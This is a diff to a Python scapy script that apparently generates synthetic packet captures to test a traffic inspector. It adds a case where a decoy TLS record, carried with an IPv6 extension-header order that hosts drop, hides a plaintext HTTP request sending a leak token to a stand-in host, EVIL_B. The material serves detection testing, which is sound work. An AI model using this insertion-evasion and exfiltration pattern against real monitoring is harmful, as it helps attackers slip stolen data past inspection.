@@ -43,7 +43,7 @@ from gen_replay import (  # noqa: E402
 )
 from gen_classes import bt_msgs, ovpn_msgs, wg_msgs  # noqa: E402
 from scapy.layers.inet import IP, TCP, UDP  # noqa: E402
-from scapy.layers.inet6 import IPv6, IPv6ExtHdrFragment  # noqa: E402
+from scapy.layers.inet6 import IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop  # noqa: E402
 from scapy.layers.dns import DNS, DNSQR, DNSRR  # noqa: E402
 from scapy.packet import Raw  # noqa: E402
 
@@ -841,6 +841,25 @@ def case_after_insert_badack(n):
     decoy = tls_appdata(n + "decoy", len(http) - 5)
     base = t.cseq
     t.raw(True, "PA", decoy, seq=base, ack=(t.sseq + 70000) & 0xFFFFFFFF)
+    t.raw(True, "PA", http, seq=base)
+    t.cseq = base + len(http)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_after_insert_hbh6(n):
+    """IPv6: the decoy record with Hop-by-Hop options after a Destination
+    Options header (a host drops it, RFC 8200 4.1), then plaintext HTTP."""
+    cap = Capture()
+    t = tls_established(cap, S6, 42162, E2M6, 262, n)
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    decoy = tls_appdata(n + "decoy", len(http) - 5)
+    base = t.cseq
+    pkt = (IPv6(src=S6, dst=E2M6) / IPv6ExtHdrDestOpt() / IPv6ExtHdrHopByHop()
+           / TCP(sport=42162, dport=443, flags="PA", seq=base, ack=t.sseq, window=64240) / Raw(decoy))
+    cap.emit(l2(S6, E2M6, ()) / pkt, t.rtt // 2)
     t.raw(True, "PA", http, seq=base)
     t.cseq = base + len(http)
     t.data(False, tls_appdata(n + "more", 120))
